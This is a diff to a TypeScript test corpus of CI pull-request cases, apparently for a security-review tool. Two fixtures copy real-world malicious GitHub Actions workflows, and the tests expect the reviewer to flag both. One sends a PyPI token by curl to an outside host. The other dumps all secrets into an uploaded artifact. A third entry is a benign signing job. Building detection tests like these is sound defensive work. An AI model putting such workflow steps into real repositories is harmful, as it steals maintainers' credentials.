@@ -252,6 +252,101 @@ export const CI_CASES: CorpusEntry[] = [
     expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration', 'gha-overprovisioned-secrets'] },
   },
   {
+    id: 'ci-secret-posted-to-ip-hostname',
+    description:
+      'The September 2025 "GhostAction" workflows: a pushed workflow posts one secret with curl -d to a throwaway host whose name spells a public IP (name.45-139-104-115.plesk.page).',
+    fixture: ciPr(1990, {
+      title: 'Add Github Actions Security workflow',
+      author: NEWCOMER,
+      fork: true,
+      files: [
+        {
+          path: '.github/workflows/github-actions-security.yml',
+          head: [
+            'name: Github Actions Security',
+            'on:',
+            '  workflow_dispatch:',
+            '  push:',
+            'jobs:',
+            '  send-secrets:',
+            '    runs-on: ubuntu-latest',
+            '    permissions: {}',
+            '    steps:',
+            '      - name: Prepare Cache Busting',
+            '        run: echo "CB=$(date +%s)" >> $GITHUB_ENV',
+            '      - name: Build Artifact',
+            '        run: curl -s -d "password=${{ secrets.PYPI_API_TOKEN }}" "https://bold-dhawan.45-139-104-115.plesk.page/?${CB}"',
+            '',
+          ].join('\n'),
+        },
+      ],
+      checkRuns: nodeCi(),
+    }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'ci-secrets-into-uploaded-artifact',
+    description: 'Modeled on the Shai-Hulud worm\'s "formatter" workflow: toJSON(secrets) written by a here-document to a file that the next step uploads as an artifact.',
+    fixture: ciPr(1991, {
+      title: 'ci: add code formatter',
+      author: NEWCOMER,
+      fork: true,
+      files: [
+        {
+          path: '.github/workflows/ci.yml',
+          base: ciWorkflow(),
+          head: ciWorkflow({
+            extraStep: [
+              '      - name: Run Formatter',
+              '        run: |',
+              "          cat <<'EOF' > format-results.txt",
+              '          ${{ toJSON(secrets) }}',
+              '          EOF',
+              '      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2',
+              '        with:',
+              '          name: formatting',
+              '          path: format-results.txt',
+            ],
+          }),
+        },
+      ],
+      checkRuns: nodeCi(),
+    }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'ci-release-signing-key-and-dist-artifact',
+    description: 'A maintainer\'s release job writes the signing key to a file, packs, and uploads dist/*.tgz: the key is never in the artifact.',
+    fixture: ciPr(1992, {
+      title: 'ci: sign release tarballs',
+      author: MEMBER,
+      files: [
+        {
+          path: '.github/workflows/ci.yml',
+          base: ciWorkflow(),
+          head: ciWorkflow({
+            extraStep: [
+              '      - name: Pack and sign',
+              '        run: |',
+              '          echo "$GPG_KEY" > signing.asc',
+              '          gpg --batch --import signing.asc && rm signing.asc',
+              '          npm pack --pack-destination dist',
+              '          for f in dist/*.tgz; do gpg --batch --detach-sign --armor "$f"; done',
+              '        env:',
+              '          GPG_KEY: ${{ secrets.GPG_PRIVATE_KEY }}',
+              '      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2',
+              '        with:',
+              '          name: package',
+              '          path: dist/*.tgz',
+            ],
+          }),
+        },
+      ],
+      checkRuns: nodeCi(),
+    }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
     id: 'ci-workflow-run-artifact-env',
     description: 'A preview-deploy workflow on workflow_run reads the PR number from the triggering run\'s artifact into GITHUB_ENV, then deploys with a token.',
     fixture: ciPr(1957, {
